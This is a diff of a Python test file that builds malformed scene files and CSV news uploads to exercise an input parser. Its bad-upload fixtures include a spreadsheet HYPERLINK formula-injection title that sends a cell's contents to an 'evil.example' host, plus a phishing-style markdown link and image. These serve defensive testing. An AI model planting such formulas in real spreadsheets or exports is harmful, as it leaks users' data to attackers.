@@ -397,7 +397,8 @@ BAD_SCENE_FILES = {
 # Every field of a scene given a value of every wrong JSON type (a dict for the page was a TypeError).
 WRONG_JSON_VALUES = {"object": {}, "list": [], "number": 5, "null": None, "true": True, "nested": [[{"a": {}}]]}
 BAD_SCENE_FILES |= {
-    f"{field} is {kind}": json.dumps({"scenes": [{"title": "t", "page": "methods", "query": "", field: value}]}).encode()
+    f"{field} is {kind}": json.dumps({"scenes": [{"title": "t", "page": "methods", "query": "", field: value}]}
+                                     ).encode()
     for field in ("title", "page", "query") for kind, value in WRONG_JSON_VALUES.items()
 }
 
@@ -435,8 +436,8 @@ BAD_UPLOADS = {
     "10,000 bad rows": NEWS_HEADER + b"only,three,fields\n" * 10_000,
     "a formula as title": NEWS_HEADER + b'"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",2024-05-17,'
                                         b"news,recruitment,NPL,,,\n" + b"Fees,2024-13-45,news,recruitment,,,,\n",
-    "a markdown link and image as title": NEWS_HEADER + b"[Click](https://evil.example/phish) ![p](http://127.0.0.1:9/t.png),"
-                                                        b"2024,news,recruitment,,,,\nFees,2024,rumour,recruitment,,,,\n",
+    "a markdown link and image as title": NEWS_HEADER + b"[Click](https://evil.example/p) ![p](http://127.0.0.1:9/t),"
+                                          b"2024,news,recruitment,,,,\nFees,2024,rumour,recruitment,,,,\n",
 }
 
 
